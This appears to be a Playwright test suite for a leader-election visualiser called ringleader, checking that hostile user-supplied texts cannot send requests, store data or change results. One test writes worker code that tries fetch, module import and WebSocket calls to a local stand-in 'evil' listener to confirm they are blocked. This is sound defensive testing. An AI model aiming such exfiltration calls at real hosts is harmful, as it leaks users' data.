import { spawn } from "node:child_process";
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { resolve } from "node:path";
import type { Page } from "@playwright/test";
import { catalogue } from "@ringleader/core";
import { pageTexts, requests, type PageText } from "../hostile/page-texts.ts";
import { expect, setUsualPatience, test } from "./patient.ts";

/** Opens an address that must get no request, and counts its connections. */
async function listen() {
  const connections: string[] = [];
  const server = createServer((request, response) => {
    connections.push(request.url ?? "");
    response.end();
  }).on("upgrade", (request) => connections.push(request.url ?? ""));
  // A connection that sends no request would be one too many.
  server.on("connection", (socket) => connections.push(`port ${socket.remotePort}`));
  await once(server.listen(0, "127.0.0.1"), "listening");
  const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  return { address, connections, close: () => server.close() };
}

/** Starts `ringleader serve`, whose answers have headers. */
async function serve() {
  const command = resolve("cli/bin/ringleader.js");
  const child = spawn(process.execPath, [command, "serve", "--port", "0"]);
  const [line] = (await once(child.stdout, "data")) as [Buffer];
  const close = async () => {
    child.kill("SIGINT");
    await once(child, "exit");
  };
  return { root: /http:\S+\//.exec(String(line))![0], close };
}

const all = catalogue.map(({ name }) => name);
const few = ["chang-roberts", "itai-rodeh"];

const fact = (page: Page) => page.locator("[data-fact=digest]");
const alert = (page: Page) => page.getByRole("alert").first();

/** Stores a text as the page does, and runs it under Watch. */
async function runText(page: Page, root: string, text: string): Promise<void> {
  await page.evaluate((it) => localStorage.setItem("ringleader.own", JSON.stringify({ it })), text);
  await page.goto(`${root}?own#algorithm=own:it&n=5&seed=1`);
}

/** Expects what the page says about a text. Stops a text that never ends; until then the page paints. */
async function expectOutcome(page: Page, { refused, endless }: PageText): Promise<void> {
  if (refused !== undefined) return expect(alert(page)).toContainText(refused);
  if (!endless) return expect(page.locator("#outcome")).toContainText("Process 5 is elected");
  const stop = page.getByRole("button", { name: "Stop", exact: true });
  await expect(stop.or(alert(page)).first()).toBeVisible();
  // A page that waited for the text would paint no frame.
  await page.evaluate(async () => {
    for (let frame = 0; frame < 10; frame++) await new Promise(requestAnimationFrame);
  });
  await setUsualPatience(page);
  // The page first describes the text and then runs it; Stop ends the step that is under way.
  await expect
    .poll(async () => {
      // Does not wait for the button, which may be gone by now.
      await stop.evaluateAll((buttons) =>
        buttons.forEach((button) => (button as HTMLElement).click()),
      );
      return alert(page).isVisible();
    })
    .toBe(true);
  await expect(alert(page)).toContainText(/Stopped during a long step|the worker failed/);
}

/** Runs algorithms of the catalogue, one after the other in the same page. Returns their digests. */
async function digestsOf(page: Page, names: readonly string[]): Promise<Record<string, string>> {
  const digests: Record<string, string> = {};
  for (const name of names) {
    await page.evaluate((it) => void (location.hash = `#algorithm=${it}&n=8&seed=3`), name);
    const command = page.getByLabel("Command that repeats this run");
    await expect(command).toHaveValue(new RegExp(`^ringleader run ${name} `));
    digests[name] = (await fact(page).textContent()) ?? "";
  }
  return digests;
}

/** Lists everything that the browser keeps for this page, and what other pages were told. */
const stored = (page: Page) =>
  page.evaluate(async () => {
    const folder = await navigator.storage.getDirectory();
    const files: string[] = [];
    for await (const name of (folder as unknown as { keys(): AsyncIterable<string> }).keys()) {
      files.push(name);
    }
    return {
      local: Object.keys(localStorage).filter((key) => key !== "ringleader.own"),
      session: Object.keys(sessionStorage),
      cookie: document.cookie,
      databases: await indexedDB.databases(),
      caches: await caches.keys(),
      workers: (await navigator.serviceWorker.getRegistrations()).length,
      files,
      heard: (window as unknown as { heard: unknown[] }).heard,
    };
  });

/** The texts after which the full suite runs the whole catalogue. */
const patches = new Set(["poison", "prototypes", "forger", "library"]);
/** The texts of the usual suite; the others wait for the full one. */
const usual = new Set(["names as code"]);

for (const where of ["a static server", "serve"] as const) {
  for (const { name } of pageTexts("")) {
    const isUsual = usual.has(name) && where === "a static server";
    test(`hostile: ${name}, on ${where}${isUsual ? "" : " @full"}`, async ({ page, baseURL }) => {
      const evil = await listen();
      const served = where === "serve" ? await serve() : undefined;
      const root = served?.root ?? `${baseURL}/`;
      const elsewhere: string[] = [];
      page.on("request", (request) => {
        if (!/^(data|blob):/.test(request.url()) && !request.url().startsWith(root)) {
          elsewhere.push(request.url());
        }
      });
      await page.addInitScript(() => {
        const heard: unknown[] = [];
        Object.assign(window, { heard });
        new BroadcastChannel("hostile").addEventListener("message", ({ data }) => heard.push(data));
      });
      try {
        const text = pageTexts(evil.address).find((it) => it.name === name)!;
        await page.goto(`${root}#algorithm=peterson&n=5&seed=1`);
        const names = process.env["FULL"] && patches.has(name) ? all : few;
        const digests = await digestsOf(page, names);
        await runText(page, root, text.text);
        await expectOutcome(page, text);
        expect(await digestsOf(page, names)).toEqual(digests);
        expect(evil.connections).toEqual([]);
        expect(elsewhere).toEqual([]);
        expect(await stored(page)).toEqual({
          local: [],
          session: [],
          cookie: "",
          databases: [],
          caches: [],
          workers: 0,
          files: [],
          heard: [],
        });
      } finally {
        evil.close();
        await served?.close();
      }
    });
  }
}

test("policy: a worker that inherits it sends nothing, even if it is not confined", async ({
  page,
}) => {
  const evil = await listen();
  await page.goto("/#algorithm=peterson&n=5&seed=1");
  await expect(fact(page)).toBeVisible();
  const code = `const evil = ${JSON.stringify(evil.address)}, g = self;
    ${requests.map((request) => `try { ${request} } catch {}`).join("\n")}
    import(evil + "module").catch(() => {});
    const socket = new WebSocket(evil.replace("http", "ws"));
    socket.onerror = () => fetch(evil).then(() => postMessage("sent"), () => postMessage("blocked"));`;
  const answer = await page.evaluate((text) => {
    const blob = new Blob([text], { type: "text/javascript" });
    const worker = new Worker(URL.createObjectURL(blob), { type: "module" });
    return new Promise((fulfil) => worker.addEventListener("message", ({ data }) => fulfil(data)));
  }, code);
  expect(answer).toBe("blocked");
  expect(evil.connections).toEqual([]);
  evil.close();
});

/** The keys of an address. */
const keys = "algorithm n ids wake links schedule seed violate elects hand open tour other".split(
  " ",
);
for (const view of ["watch", "compare", "check", "measure", "learn", "write"]) {
  test(`long words: a link of 60,000 letters is answered in a few, view ${view} @full`, async ({
    page,
  }) => {
    for (const key of keys) {
      const run = key === "algorithm" ? "" : "&algorithm=chang-roberts&n=5";
      await page.goto(`/?${key}#view=${view}${run}&${key}=${"x".repeat(60_000)}`);
      await expect(page.getByRole("tablist").first()).toBeVisible();
      const shown = () => page.locator("body").innerText();
      await expect.poll(async () => (await shown()).length, key).toBeGreaterThan(100);
      await expect(page.getByText("Running …")).toHaveCount(0);
      expect((await shown()).match(/x{100,}/g), key).toBeNull();
    }
  });
}
